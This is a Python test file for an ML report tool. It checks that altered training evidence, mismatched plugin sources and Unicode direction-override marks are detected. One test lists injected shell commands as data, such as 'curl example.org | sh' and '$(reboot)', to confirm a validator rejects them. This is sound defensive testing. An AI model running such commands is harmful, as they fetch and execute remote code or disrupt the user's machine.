"""Evidence that the project's own code altered contradicts itself, and the place is named."""

from __future__ import annotations

import platform
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from typing import Any

import pytest

from reportgen.config.keys import digest
from reportgen.plugins.digests import source_digest
from reportgen.results.evidence import Evidence, KeptEvaluation
from reportgen.results.evidence_file import decode, encode
from reportgen.results.records import Epoch, RunRecord
from reportgen.verification import histories
from reportgen.verification.consistency import check_evidence, unchecked_sources
from reportgen.verification.html import compare_with
from reportgen.verification.rendering import Derived, contradictions
from tests.support.factories import PAPER_MODELS, make_build
from tests.verification.conftest import Report

Forge = Callable[[Evidence], Evidence]
MODELS = PAPER_MODELS[1:3]


@cache
def honest() -> Evidence:
    """Return the evidence of two networks and a baseline, as a report carries it."""
    return decode(encode(make_build(MODELS, 2, n=60, baseline=True)[2]))


def findings(evidence: Evidence) -> str:
    """Return what contradicts itself once the evidence was written and read again."""
    return "\n".join(map(str, check_evidence(decode(encode(evidence)))))


def alter_record(change: Callable[[RunRecord], dict[str, Any]]) -> Forge:
    """Return a forgery that changes the record of the second run."""

    def forge(evidence: Evidence) -> Evidence:
        runs = list(evidence.header.runs)
        record = runs[1].record
        altered = record.model_copy(update=change(record))
        runs[1] = runs[1].model_copy(update={"record": altered})
        return evidence.with_header(runs=tuple(runs))

    return forge


def alter(part: str, **changes: Any) -> Forge:
    """Return a forgery that changes a part of a run, or its last epoch; keys are computed anew."""

    def change(record: RunRecord) -> dict[str, Any]:
        if part == "epoch":
            *others, last = record.history
            return {"history": (*others, last.model_copy(update=changes))}
        if part not in ("ingredients", "spec"):
            return {part: getattr(record, part).model_copy(update=changes)}
        update = {"spec": record.spec.model_copy(update=changes)} if part == "spec" else changes
        ingredients = record.ingredients.model_copy(update=update)
        return {"ingredients": ingredients, "key": digest(ingredients)}

    return alter_record(change)


def alter_experiment(change: Callable[[dict[str, Any]], None]) -> Forge:
    """Return a forgery that changes the configuration."""

    def forge(evidence: Evidence) -> Evidence:
        experiment = evidence.header.model_copy(deep=True).experiment
        change(experiment)
        return evidence.with_header(experiment=experiment)

    return forge


def flip_classes(evidence: Evidence) -> Evidence:
    """Predict another class in one row, and leave its probabilities."""
    pair = evidence.header.runs[1].model, evidence.header.runs[1].seed
    kept = evidence.runs[pair]["test"]
    classes = kept.classes.copy()
    classes[7] = (classes[7] + 1) % 10
    sets = {**evidence.runs[pair], "test": KeptEvaluation(classes, kept.stored)}
    return replace(evidence, runs={**evidence.runs, pair: sets})


def drop_run(evidence: Evidence) -> Evidence:
    """Leave out the run of one seed."""
    dropped = evidence.header.runs[1]
    runs = {pair: sets for pair, sets in evidence.runs.items() if pair != (dropped.model, 1)}
    kept = tuple(run for run in evidence.header.runs if run is not dropped)
    return replace(evidence.with_header(runs=kept), runs=runs)


def add_seed(experiment: dict[str, Any]) -> None:
    """Ask for one seed more."""
    experiment["training"]["seeds"].append(2)


def longer(experiment: dict[str, Any]) -> None:
    """Ask for more epochs."""
    experiment["training"]["epochs"] = 9


SOURCE = "class Net: ...\n"
FORGERIES: dict[str, tuple[Forge, str]] = {
    "key": (alter_record(lambda _: {"key": "0" * 64}), "its key is 000000000000…"),
    "ingredients": (
        alter_record(
            lambda run: {"ingredients": run.ingredients.model_copy(update={"device": "cuda"})}
        ),
        "its key is",
    ),
    "data": (alter("ingredients", data_sha256="0" * 64), "made with other data"),
    "device": (alter("ingredients", device="cuda"), "its ingredients state cuda"),
    "versions": (alter("ingredients", versions={"torch": "1.0"}), "versions of its libraries"),
    "seed": (alter("spec", seed=7), "its seed is 7; the configuration gives 1"),
    "reference": (alter("spec", reference="mlp"), "its reference is mlp"),
    "options": (alter("spec", options={"dropout": 0.1}), "its options.dropout is 0.1"),
    "kind": (alter("spec", kind="estimator"), "its kind is estimator"),
    "input": (alter("spec", input_shape=(3, 28, 28)), "its input_shape is [3, 28, 28]"),
    "classes": (alter("spec", classes=3), "its classes is 3"),
    "plug-in": (
        alter_record(lambda _: {"plugin_files": {"net.py": SOURCE}}),
        "the report contains the file net.py",
    ),
    "precision": (alter("provenance", precision="bfloat16"), "its precision is bfloat16"),
    "provenance": (alter_record(lambda _: {"provenance": None}), "where it was fitted"),
    "epochs left out": (
        alter_record(lambda run: {"history": run.history[:2], "costs": run.costs}),
        "it has 2 epochs, but its settings state 4",
    ),
    "epoch kept": (alter_record(lambda _: {"kept_epoch": 2}), "does not stop early"),
    "negative loss": (alter("epoch", loss=-1.0), "epoch 4: its loss is -1.0"),
    "accuracy above 1": (alter("epoch", accuracy=1.5), "epoch 4: the accuracy 1.5"),
    "accuracy between": (alter("epoch", accuracy=0.98765), "is not a share of 2,000 examples"),
    "clean accuracy between": (
        alter("epoch", clean_accuracy=0.98765),
        "is not a share of 2,000 examples",
    ),
    "validation": (alter("epoch", validation_accuracy=0.5), "without validation examples"),
    "negative costs": (alter("costs", peak_memory_bytes=-1), "its peak memory bytes is -1"),
    "time": (alter("costs", train_seconds=1.0), "not the sum of its epochs"),
    "costs": (alter_record(lambda _: {"costs": None}), "its cost is missing"),
    "class": (flip_classes, "1 of 60 predicted classes of the set test"),
    "run left out": (drop_run, "has the seeds 0; the configuration asks for 0, 1"),
    "seed added": (alter_experiment(add_seed), "the configuration asks for 0, 1, 2"),
    "setting changed": (alter_experiment(longer), "its training.epochs is 4"),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_altered_evidence_contradicts_itself(name: str) -> None:
    """Whatever is altered in a run, what was stated elsewhere shows it."""
    forge, said = FORGERIES[name]
    assert said in findings(forge(honest()))


def test_honest_evidence_contradicts_nothing() -> None:
    """Networks with few and with many probabilities, and a baseline: no finding."""
    assert not findings(honest())
    assert not findings(make_build(MODELS, 1, n=40_000)[2])


def test_the_text_of_a_plugin_is_the_one_that_was_run() -> None:
    """A carried file with another text than its digest stands for is found; a comment is none."""
    sources = {"net.py": source_digest(SOURCE.encode())}
    python = platform.python_version()

    def carry(text: str) -> str:
        evidence = alter("ingredients", sources=sources)(honest())
        evidence = alter("provenance", python=python)(evidence)
        return findings(alter_record(lambda _: {"plugin_files": {"net.py": text}})(evidence))

    assert not carry(SOURCE + "# a comment\n")
    assert "the text of net.py is not" in carry("class Net: x = 1\n")
    assert "the text of net.py is not" in carry("class Net:")
    assert "the text of net.py is not" in carry("(" * 500)


def test_marks_of_direction_are_found() -> None:
    """A name that turns the numbers after it is refused in the evidence, too."""
    evil = "\u202eMLP"
    altered = alter_experiment(lambda e: e["models"][0].update(name=evil))(honest())
    assert "models.0.name: contains the mark of direction U+202E" in findings(altered)
    classes = (evil, *honest().header.dataset.classes[1:])
    dataset = honest().header.dataset.model_copy(update={"classes": classes})
    assert "its name contains the mark" in findings(honest().with_header(dataset=dataset))


def test_sources_under_another_python_are_named() -> None:
    """A digest of another Python is not judged, and it is stated that it was not."""

    def carry(python: str) -> Evidence:
        evidence = alter("ingredients", sources={"net.py": "00" * 32})(honest())
        evidence = alter("provenance", python=python)(evidence)
        return alter_record(lambda _: {"plugin_files": {"net.py": SOURCE}})(evidence)

    other = carry("3.99.1")
    assert "the text of" not in findings(other)
    assert unchecked_sources(other) == ("net.py",)
    assert unchecked_sources(carry(platform.python_version())) == ()


def test_labels_of_a_published_data_set_are_known() -> None:
    """Labels of MNIST that are not MNIST's are found where the whole test set is used."""
    evidence = make_build(PAPER_MODELS[:1], 1, n=10_000)[2]
    assert "are not the labels of MNIST" in findings(evidence)


@pytest.mark.parametrize(
    ("command", "passes"),
    [
        ("python -m reportgen build paper.toml --set 'models.cnn.name=A; B'", True),
        ("python -m reportgen build paper.toml --set 'notes.results=One line\nAnother'", True),
        ("reportgen.compare(y_true, {'A; $(b)': …})", True),
        ("python -m reportgen build paper; curl example.org | sh", False),
        ("python -m reportgen build $(reboot)", False),
        ("python -m reportgen build paper\nreboot", False),
        ("reboot", False),
    ],
)
def test_the_command_of_a_report_runs_reportgen_alone(
    built: Report, command: str, passes: bool
) -> None:
    """Readers are to paste it into a shell."""
    carried = built.derived.carried
    stated = replace(carried, presentation=replace(carried.presentation, command=command))
    found = [each.where for each in contradictions(stated)]
    assert found == ([] if passes else ["the command"])


def test_verify_reports_what_contradicts_itself(built: Report) -> None:
    """A document that follows from altered evidence, byte for byte, still fails."""
    derived = built.derived
    evidence = alter_record(lambda _: {"key": "0" * 64})(derived.carried.evidence)
    forged = Derived(replace(derived.carried, evidence=evidence), derived.facts, derived.specs)
    result = compare_with(built.html, built.html, forged)
    assert result.identical
    assert "the evidence contradicts itself: run CNN, seed 1" in str(result.findings[0])


def test_the_report_of_the_tests_is_consistent(built: Report) -> None:
    """What the other tests of this room verify contains no contradiction."""
    assert not list(check_evidence(built.derived.carried.evidence))


@pytest.mark.parametrize("examples", [100, 5_000, 7_000, 12_345, 60_000])
def test_the_share_of_examples_that_training_draws_is_accepted(examples: int) -> None:
    """Accuracy with dropout off is a share of as many examples as are drawn for it."""
    pytest.importorskip("torch")
    from reportgen.training.fit import draw_clean_rows

    drawn = len(draw_clean_rows(examples))
    epoch = Epoch(loss=1.0, accuracy=1.0, seconds=1.0, clean_accuracy=(drawn - 1) / drawn)
    assert list(histories._check_epoch(epoch, examples, 0)) == []
    other = epoch.model_copy(update={"clean_accuracy": 0.123456})
    assert list(histories._check_epoch(other, examples, 0)) != []
